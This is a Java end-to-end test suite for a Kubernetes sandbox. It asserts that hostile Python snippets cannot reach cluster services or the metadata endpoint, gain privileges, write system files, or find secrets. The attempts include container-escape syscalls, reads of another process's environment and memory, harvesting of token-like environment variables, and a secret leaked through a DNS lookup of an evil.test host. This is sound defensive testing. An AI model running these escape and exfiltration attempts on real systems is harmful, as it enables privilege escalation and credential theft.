package dev.wheelhouse.e2e;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.RegisterExtension;

/** A hostile program in a sandbox reaches nothing and becomes nobody. What it does to itself is in EscapeBombE2E. */
class EscapeE2E {
    @RegisterExtension
    static final Spaces SPACES = new Spaces();

    private static final String API_SERVER = "os.environ.get('KUBERNETES_SERVICE_HOST', '10.96.0.1'), 443";

    /** A pod that listens on 8080, and what an ordinary pod, under no policy, can reach from the same place. */
    private static final String LISTENER = """
        apiVersion: v1
        kind: Pod
        metadata: {name: victim, labels: {app: victim}}
        spec:
          automountServiceAccountToken: false
          terminationGracePeriodSeconds: 0
          securityContext: {runAsNonRoot: true, runAsUser: 65532, seccompProfile: {type: RuntimeDefault}}
          containers:
          - name: c
            image: wheelhouse.local/sandbox:dev
            command: [python3, -m, http.server, '8080', --directory, /workspace]
            securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        """;

    private static Space space;
    private static Lab lab;
    private static Map<String, String> targets;

    @BeforeAll
    static void open() {
        Space other = SPACES.openForClass("victim").create(LISTENER);
        space = SPACES.openForClass("escape")
                .tenant("runtime: {cpu: 10m, replicas: 1}")
                .create(LISTENER);
        lab = Lab.open(space, "mallory", "{scope: Tenant, idleSeconds: 600}");
        targets = new LinkedHashMap<>();
        targets.put("the API server's Service", API_SERVER);
        targets.put("the API server on the node", "'" + Cluster.HOST + "', 6443");
        targets.put("the kubelet", "'" + Cluster.HOST + "', 10250");
        targets.put("the metadata service", "'169.254.169.254', 80");
        targets.put("DNS over TCP", "'10.96.0.10', 53");
        targets.put("a pod of another tenant", "'" + ip(other) + "', 8080");
        targets.put("a pod of its own namespace", "'" + ip(space) + "', 8080");
        lab.shell("first", "echo the sandbox is there");
        targets.put(
                "another port of its runtime",
                "'" + space.runtimePods().getFirst().getStatus().getPodIP() + "', 8080");
    }

    private static String ip(Space space) {
        Cluster.await(space.name(), "pod/victim", "condition=Ready", 90);
        Pod pod = Cluster.client()
                .pods()
                .inNamespace(space.name())
                .withName("victim")
                .get();
        return pod.getStatus().getPodIP();
    }

    /** Without this, a test that nothing is reached would also pass where nothing is there. */
    @Test
    void an_ordinary_pod_reaches_all_of_it() {
        var code = new StringBuilder("import os, socket\n");
        targets.values().forEach(target -> code.append("socket.create_connection((" + target + "), 3)\n"));
        space.kubectl("exec", "victim", "--", "python3", "-c", code.toString()).orThrow();
    }

    @TestFactory
    Stream<DynamicTest> nothing_on_the_network_is_reached() {
        Map<String, String> attempts = new LinkedHashMap<>();
        targets.forEach((name, target) -> attempts.put(name, "tcp(" + target + ")"));
        attempts.put("etcd on the node", "tcp('" + Cluster.HOST + "', 2379)");
        attempts.put(
                "DNS over UDP",
                "udp('10.96.0.10', 53, b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1')");
        attempts.put(
                "DNS on the node",
                "udp('" + Cluster.HOST
                        + "', 53, b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1')");
        attempts.put("a secret in a name that is looked up", "socket.gethostbyname('s3cr3t.evil.test')");
        attempts.put("the cluster's names", "socket.gethostbyname('kubernetes.default.svc.cluster.local')");
        attempts.put(
                "ICMP by a raw socket",
                "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and 'raw socket'");
        attempts.put("ICMP by a datagram socket", """
            (lambda s: (s.settimeout(1.5), s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('%s', 0)), s.recv(100))[2])(
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))""".formatted(Cluster.HOST));
        attempts.put("packets of its own making", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) and 'packets'");
        attempts.put("IPv6 in IPv4's clothes", "tcp('::ffff:10.96.0.1', 443, socket.AF_INET6)");
        attempts.put("the node's link by IPv6 multicast", "udp('ff02::1%eth0', 5353, b'x', socket.AF_INET6)");
        attempts.put(
                "another pod's address as its own",
                "socket.create_connection(('" + Cluster.HOST + "', 6443), 1.5, ('10.88.1.1', 0)) and 'bound'");
        attempts.put("the container runtime's sockets", """
            next((tcp for p in ('/run/containerd/containerd.sock', '/var/run/docker.sock') if os.path.exists(p)), None)""");
        return tests("net", attempts);
    }

    @TestFactory
    Stream<DynamicTest> no_privilege_is_gained() {
        Map<String, String> attempts = new LinkedHashMap<>();
        attempts.put("become root", "os.setuid(0)");
        attempts.put("root of a user namespace", "syscall(272, 0x10000000)");
        attempts.put("a mount namespace", "syscall(272, 0x00020000)");
        attempts.put("mount", "syscall(165, b'none', b'/tmp', b'tmpfs', 0, 0)");
        attempts.put("change the root", "os.chroot('/tmp')");
        attempts.put("make a device", "os.mknod('/tmp/sda', 0o60666, os.makedev(8, 0))");
        attempts.put("trace the daemon", "syscall(101, 16, 1, 0, 0)");
        attempts.put("read the daemon's memory", "open('/proc/1/mem', 'rb').read(1)");
        attempts.put("read the daemon's environment", "open('/proc/1/environ', 'rb').read()");
        attempts.put("write the daemon's memory", "open('/proc/1/mem', 'wb')");
        attempts.put("the kernel's log", "open('/dev/kmsg', 'rb').read(1)");
        attempts.put("load a module", "syscall(175, 0, 0, b'')");
        attempts.put("a BPF program", "syscall(321, 0, 0, 0)");
        attempts.put("the kernel's keys", "syscall(250, 0, -3, 1)");
        attempts.put("reboot", "syscall(169, 0xfee1dead, 672274793, 0x1234567)");
        attempts.put("set the clock", "__import__('time').clock_settime(0, 0)");
        attempts.put(
                "stop the daemon",
                "os.kill(1, 19) or ('stopped' if open('/proc/1/stat').read().split()[2] in 'Tt' else None)");
        attempts.put("kill the daemon", "os.kill(1, 9)");
        attempts.put("programs that run as root", """
            [os.path.join(d, f) for d, _, fs in os.walk('/usr') for f in fs
             if os.lstat(os.path.join(d, f)).st_mode & 0o4000 and open('/proc/self/status').read().find('NoNewPrivs:\\t1') < 0] or None""");
        return tests("priv", attempts);
    }

    @TestFactory
    Stream<DynamicTest> nothing_is_written_outside_its_folders() {
        Map<String, String> attempts = new LinkedHashMap<>();
        for (String path : new String[] {
            "/etc/passwd", "/usr/bin/x", "/wheelhouse/bin/java", "/wheelhouse/x", "/proc/sys/kernel/core_pattern",
            "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/var/run/wheelhouse/../x", "/root/x", "/dev/x"
        }) {
            attempts.put("write " + path, "write('" + path + "')");
        }
        attempts.put("leave its control group", """
            next((write(os.path.join(d, 'cgroup.procs')) for d, _, fs in os.walk('/sys/fs/cgroup') if 'cgroup.procs' in fs), None)""");
        return tests("write", attempts);
    }

    @TestFactory
    Stream<DynamicTest> nothing_secret_is_there() {
        Map<String, String> attempts = new LinkedHashMap<>();
        attempts.put("a token for the API server", "os.listdir('/var/run/secrets') or None");
        attempts.put("Secrets of the tenant", "os.listdir('/etc/wheelhouse') or None");
        attempts.put("keys in environments", """
            [e for p in os.listdir('/proc') if p.isdigit() and p != '1' for e in open('/proc/%s/environ' % p).read().split('\\0')
             if any(w in e.upper() for w in ('TOKEN', 'SECRET', 'PASSWORD', 'API_KEY'))] or None""");
        return tests("secret", attempts);
    }

    private static Stream<DynamicTest> tests(String group, Map<String, String> attempts) {
        var names = attempts.keySet().iterator();
        return Stream.iterate(0, i -> i + 1).limit(attempts.size()).map(i -> {
            String name = names.next();
            return DynamicTest.dynamicTest(name, () -> held(group + "-" + i, name, attempts.get(name)));
        });
    }

    private static void held(String run, String name, String expression) {
        String told = lab.python(
                run, "attempt(" + Serialization.asJson(name) + ", lambda: (" + expression.replace("\n", " ") + "))\n");
        assertTrue(told.contains("HELD " + name), told);
        assertFalse(told.contains("ESCAPED"), told);
    }

    /** The only token there is says which pod this is, to the runtime and to nobody else. */
    @Test
    void its_token_is_worth_nothing_at_the_api_server() {
        String told = lab.python("token", "print('TOKEN=' + open('/var/run/wheelhouse/token').read() + '=')\n");
        String token = told.replaceAll("(?s).*TOKEN=([^=\\s]+)=.*", "$1");
        assertTrue(token.split("\\.").length == 3, told);
        String server = Cluster.client().getMasterUrl().toString();
        Kubectl.Result whoami = Kubectl.run(
                "{apiVersion: v1, kind: Config, clusters: [{name: c, cluster: {insecure-skip-tls-verify: true, server: '"
                        + server + "'}}], users: [{name: u, user: {token: " + token
                        + "}}], contexts: [{name: c, context:"
                        + " {cluster: c, user: u}}], current-context: c}",
                "--kubeconfig=/dev/stdin",
                "get",
                "pods");
        assertFalse(whoami.ok(), whoami.out());
        assertTrue(whoami.err().contains("Unauthorized") || whoami.err().contains("logged in"), whoami.err());
    }
}
